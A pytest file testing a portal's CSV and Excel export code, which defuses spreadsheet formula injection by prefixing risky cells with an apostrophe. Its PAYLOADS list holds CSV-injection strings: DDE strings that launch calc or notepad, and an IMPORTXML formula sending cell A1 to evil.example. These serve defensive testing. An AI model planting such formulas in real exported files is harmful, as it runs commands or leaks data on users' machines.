from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal.core.exports import csv_lines, defuse, restore, xlsx_file

PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-2+3",
    "-cmd|'/C calc'!A0",
    "@SUM(1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tharmless after a tab",
    "\r=1+1",
    "\rharmless after a line break",
    "\n=1+1",
    "\r\n@SUM(1)",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003-1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝cmd",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "-",
    "=",
]  # fmt: skip

HARMLESS = [
    "",
    "Good",
    "65+",
    "a=b",
    "name@example.org",
    "'quoted' words",
    "'",
    "don't know",
    "  two spaces first",
    "نعم",
    "¿Está satisfecho?",
    "line\nbreak",
    "1 - 2",
    "‘=’ in curly quotes",
]


def read(lines):
    return list(csv.reader(io.StringIO("".join(lines), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    [[cell]] = read(csv_lines([payload], []))
    assert cell == f"'{payload}"
    assert restore(cell) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text):
    assert defuse(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", PAYLOADS + HARMLESS)
def test_the_rule_is_taken_back_without_a_loss_however_often_it_was_applied(text):
    assert restore(restore(defuse(defuse(text)))) == text


def test_headers_are_defused_as_well():
    assert read(csv_lines(["=1+1", "n"], [])) == [["'=1+1", "n"]]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        pytest.param(-5, "-5", id="negative_number"),
        pytest.param(-0.25, "-0.25", id="negative_fraction"),
        pytest.param(Decimal("-1.50"), "-1.50", id="decimal"),
        pytest.param(None, "", id="nothing"),
        pytest.param(True, "yes", id="yes"),
        pytest.param(date(2026, 3, 1), "2026-03-01", id="day"),
        pytest.param(datetime(2026, 3, 1, 12, 30, tzinfo=UTC), "2026-03-01T12:30:00+00:00", id="moment"),
        pytest.param("-5", "'-5", id="number_typed_as_text"),
    ],
)
def test_numbers_and_days_are_written_plainly(cell, written):
    assert read(csv_lines(["x"], [[cell]]))[1] == [written]


def test_quotes_commas_and_line_breaks_survive():
    row = ['say "hi", please', "two\r\nlines", "a,b"]
    assert read(csv_lines(["a", "b", "c"], [row]))[1] == row


def test_lines_stream_one_by_one():
    def rows():
        yield ["first"]
        raise AssertionError("the second row was asked for too early")

    lines = csv_lines(["h"], rows())
    assert [next(lines), next(lines)] == ["h\r\n", "first\r\n"]


def test_a_byte_order_mark_tells_spreadsheets_that_this_is_utf8():
    assert "".join(csv_lines(["نص"], [], mark=True)) == "\ufeffنص\r\n"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_spreadsheet_file_is_a_formula(payload):
    sheet = load_workbook(io.BytesIO(xlsx_file(["Title"], [[payload]]))).active
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value.startswith("'")


def test_a_spreadsheet_file_keeps_numbers_and_leaves_out_what_it_cannot_hold():
    file = xlsx_file(["Title", "Texts"], [["Swans\x00 and ducks", 12], [None, -3]])
    sheet = load_workbook(io.BytesIO(file)).active
    assert list(sheet.values) == [("Title", "Texts"), ("Swans and ducks", 12), (None, -3)]
